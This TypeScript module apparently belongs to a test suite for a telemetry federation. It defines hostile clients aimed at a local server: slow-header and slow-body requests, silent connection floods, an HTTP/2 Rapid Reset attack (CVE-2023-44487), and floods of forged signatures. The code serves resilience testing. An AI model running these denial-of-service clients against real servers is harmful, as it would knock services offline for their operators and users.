/** Clients that mean harm, of every kind that needs no signing key. Each goes on until it is stopped, and replaces what it loses. */
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { ReachableFederation } from '../../../tools/local-federation/attach.js';
import { PRODUCER_B } from '../../../tools/local-federation/parties.js';
import { doorOf } from './door.js';
import { openHttp2, sendOn } from './http2-client.js';
import { replacing, type Door, type HeaderLine, type Outgoing, type TlsIdentity } from './outgoing.js';
import { dataFrame, headersFrame, HTTP2_PREFACE, RESET_FRAME, SETTINGS_FRAME } from './raw-http2.js';
import { telemetry } from './requests.js';
import { openTls } from './tls-client.js';

/** An attack that is under way. */
export interface Hostile {
  /** Requests, connections or bytes so far, whatever the attack is made of. */
  readonly done: () => number;
  stop(): Promise<void>;
}

/** Who attacks, and where. */
export interface Attacker {
  readonly door: Door;
  /** A certificate of the CA, as an honest producer has one. */
  readonly over: TlsIdentity;
  /** A request of the attacker's own, correctly signed. */
  readonly request: () => Outgoing;
}

/** The second producer of a federation, as the one that means harm. */
export function attackerOf(federation: ReachableFederation): Attacker {
  const { producerB } = federation.credentials;
  const request = () => telemetry({ by: producerB, party: PRODUCER_B });
  return { door: doorOf(federation), over: producerB, request };
}

const TICK_MILLISECONDS = 20;

/** Keeps so many sockets open and drives each at every tick; one that was closed is replaced, some at a time. */
class Sockets {
  readonly #open: () => Socket;
  readonly #drive: (socket: Socket, ticks: number) => void;
  readonly #live = new Map<Socket, number>();
  readonly #timer: NodeJS.Timeout;
  opened = 0;

  constructor(
    count: number,
    perTick: number,
    open: () => Socket,
    drive: (socket: Socket, ticks: number) => void,
  ) {
    this.#open = open;
    this.#drive = drive;
    this.#timer = setInterval(() => {
      for (let left = perTick; left > 0 && this.#live.size < count; left--) this.#add();
      for (const [socket, ticks] of this.#live) {
        this.#live.set(socket, ticks + 1);
        this.#drive(socket, ticks);
      }
    }, TICK_MILLISECONDS);
  }

  stop(): Promise<void> {
    clearInterval(this.#timer);
    for (const socket of this.#live.keys()) socket.destroy();
    return sleep(TICK_MILLISECONDS);
  }

  #add(): void {
    const socket = this.#open();
    this.opened++;
    this.#live.set(socket, 0);
    socket.on('error', () => undefined);
    socket.on('close', () => this.#live.delete(socket));
    socket.resume();
  }
}

/** Requests whose heads come one byte at a time, and never end. */
export function slowClients(attacker: Attacker, count = 100): Hostile {
  const head = `POST /internal/v1/telemetry HTTP/1.1\r\nHost: localhost\r\nX-Note: ${'a'.repeat(8_000)}`;
  const sockets = new Sockets(
    count,
    5,
    () => openTls(attacker.door, attacker.over, 'http/1.1'),
    (socket, ticks) => void socket.write(head.charAt(ticks % head.length)),
  );
  return { done: () => sockets.opened, stop: () => sockets.stop() };
}

/** Requests of which half the body comes at once and the rest one byte at a time. */
export function slowBodies(attacker: Attacker, count = 60): Hostile {
  const head = 'POST /internal/v1/telemetry HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n';
  const half = Buffer.concat([Buffer.from(head), Buffer.alloc(500_000, 'x')]);
  const sockets = new Sockets(
    count,
    3,
    () => openTls(attacker.door, attacker.over, 'http/1.1'),
    (socket, ticks) => void socket.write(ticks === 0 ? half : 'x'),
  );
  return { done: () => sockets.opened, stop: () => sockets.stop() };
}

/** Connections that say nothing, not even who they are. */
export function silentConnections({ door }: Attacker, count: number): Hostile {
  const open = (): Socket => connect({ host: '127.0.0.1', port: door.port });
  const sockets = new Sockets(count, 100, open, () => undefined);
  return { done: () => sockets.opened, stop: () => sockets.stop() };
}

const RESETS_PER_TICK = 20;

/** Whole requests, each reset at once: the work is asked for, and nobody waits for it (CVE-2023-44487). */
export function rapidResets(attacker: Attacker, count = 4): Hostile {
  const { headers, body } = forged(attacker);
  const lines: HeaderLine[] = [
    [':method', 'POST'],
    [':scheme', 'https'],
    [':authority', 'localhost'],
    [':path', '/internal/v1/telemetry'],
    ...headers.map(([name, value]): HeaderLine => [name.toLowerCase(), value]),
  ];
  const whole = [headersFrame(lines, false), dataFrame(body, true), RESET_FRAME];
  const opening = Buffer.concat([HTTP2_PREFACE, SETTINGS_FRAME]);
  let resets = 0;
  const drive = (socket: Socket, ticks: number): void => {
    if (ticks === 0) socket.write(opening);
    for (let number = 0; number < RESETS_PER_TICK; number++) {
      const stream = 1 + 2 * (ticks * RESETS_PER_TICK + number);
      socket.write(Buffer.concat(whole.map((one) => onStream(one, stream))));
      resets++;
    }
  };
  const sockets = new Sockets(count, 1, () => openTls(attacker.door, attacker.over, 'h2'), drive);
  return { done: () => resets, stop: () => sockets.stop() };
}

function onStream(one: Buffer, stream: number): Buffer {
  const copy = Buffer.from(one);
  copy.writeUInt32BE(stream, 5);
  return copy;
}

/** As many forgeries as are answered, each of them worth a signature check: what only a producer of one's own can do. */
export function forgeries(attacker: Attacker, sessions = 2, inFlight = 100): Hostile {
  const outgoing = forged(attacker);
  let answered = 0;
  let stopped = false;
  const lane = async (session: ReturnType<typeof openHttp2>): Promise<void> => {
    while (!stopped && !session.destroyed) {
      await sendOn(session, outgoing);
      answered++;
    }
  };
  const lanes = Array.from({ length: sessions }, () => {
    const session = openHttp2(attacker.door, attacker.over);
    const all = Promise.all(Array.from({ length: inFlight }, () => lane(session)));
    return all.then(() => session.destroy());
  });
  return {
    done: () => answered,
    stop: async () => {
      stopped = true;
      await Promise.all(lanes);
    },
  };
}

/** The attacker's own request with a signature that is well written and wrong. */
function forged({ request }: Attacker): Outgoing {
  return replacing(request(), 'x-telemetry-signature', Buffer.alloc(64, 7).toString('base64'));
}
